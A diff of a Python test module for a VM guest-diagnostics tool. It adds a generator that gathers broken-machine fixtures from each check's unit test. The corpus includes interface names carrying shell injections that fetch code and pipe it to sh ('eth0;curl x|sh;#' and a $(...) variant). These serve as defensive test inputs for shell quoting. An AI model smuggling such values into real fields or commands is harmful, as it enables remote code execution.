@@ -7,13 +7,16 @@ until it has one. The registry is read, not run, so this holds in the normal sui
 
 The rest runs every check over a corpus of broken machines and holds each guest fix to what a shell runs as it
 is: POSIX sh syntax (dash, Debian's sh), a real command at the head of every command, no placeholder such as
-GATEWAY or IFACE; advice that is not a command is in `hint`.
+GATEWAY or IFACE; advice that is not a command is in `hint`. Besides its own machines, the corpus takes those each
+check's unit test offers (`fix_catalog_machines()` in tests/unit/test_<check>.py), so a new check adds to it there.
 """
 
 from __future__ import annotations
 
 import copy
 import dataclasses
+import importlib
+import importlib.util
 import json
 import re
 import shlex
@@ -22,7 +25,7 @@ from typing import Iterator
 
 import pytest
 
-from guestcheck.checks import catalog, guest_fix_ids
+from guestcheck.checks import catalog, guest_fix_ids, modules
 from guestcheck.doctor import build_report
 from guestcheck.facts import (
     Balloon,
@@ -123,7 +126,20 @@ def _down(f: Facts) -> None:
     eth0(f).operstate, eth0(f).admin_up = "down", False
 
 
+def contributed() -> Iterator[tuple[str, Facts]]:
+    """The machines each check's own unit test offers (tests/unit/test_<check>.py: `fix_catalog_machines()`), so a
+    new check reaches this corpus from its own test, with no list here naming it."""
+    for module in modules():
+        area = module.__name__.rsplit(".", 1)[1]
+        if importlib.util.find_spec(f"tests.unit.test_{area}") is None:
+            continue
+        machines = getattr(importlib.import_module(f"tests.unit.test_{area}"), "fix_catalog_machines", None)
+        for label, facts in machines() if machines else ():
+            yield f"{area}: {label}", facts
+
+
 def corpus() -> Iterator[tuple[str, Facts]]:
+    yield from contributed()
     for finding_id, (make, _) in sorted(CASES.items()):
         yield finding_id, _broken(make)
     for name in ("eth0", "br0", "eth0;curl x|sh;#", "e'$(curl x|sh)'"):
